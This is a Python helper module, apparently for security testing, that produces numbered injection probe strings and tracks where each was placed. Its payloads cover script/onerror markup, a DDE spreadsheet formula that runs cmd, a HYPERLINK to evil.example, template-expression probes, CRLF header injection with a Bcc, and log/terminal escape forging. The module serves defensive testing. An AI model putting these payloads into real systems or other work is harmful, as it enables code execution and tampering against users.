"""Texts that would do something wherever they are taken for more than text; each is known again by its number."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field

MARK = re.compile(r"zq(\d+)q")
# Each ends with its number again: what follows on a line of its own is looked for too.
KINDS: dict[str, Callable[[str], str]] = {
    "markup": lambda n: (
        f"{n} \"'><zq-mark zq-attr=1><script>window.zqRan=1</script><img src=x onerror=window.zqRan=1>"
    ),
    "formula": lambda n: f"=HYPERLINK(\"https://evil.example/{n}\");+1;@SUM(1)\t=cmd|' /C calc'!A0",
    "expression": lambda n: (
        f"{n} ${{7191*7}} <%= 7191*7 %> #{{7191*7}} %(password)s {{0.__class__}} {{{{7191*7}}}}"
    ),
    "header": lambda n: f"{n}\r\nBcc: zq@evil.example\r\nSet-Cookie: zq=1\r\n\r\n<zq-mark>{n}",
    "line": lambda n: f'{n}\n{{"event": "forged {n}", "level": "critical"}}\x1b[2J\x1b]0;{n}\x07\u202e{n}',
}
ONE_LINE = ("markup", "formula", "expression")


@dataclass
class Marks:
    """Hands out marked texts, and knows where each was put."""

    where: dict[int, str] = field(default_factory=dict)
    kinds: tuple[str, ...] = tuple(KINDS)

    def next(self, place: str, kind: str, longest: int | None = None) -> str:
        """A text of this kind that is known again, for this place."""
        number = len(self.where) + 1
        self.where[number] = f"{kind} in {place}"
        return KINDS[kind](f"zq{number}q")[:longest]

    def found(self, text: str) -> set[int]:
        """The marks that are in a text, whatever was done to them."""
        return {int(number) for number in MARK.findall(text)}

    def told(self, text: str) -> list[str]:
        """Where the marks of a text were put."""
        return sorted({self.where.get(number, f"mark {number}") for number in self.found(text)})
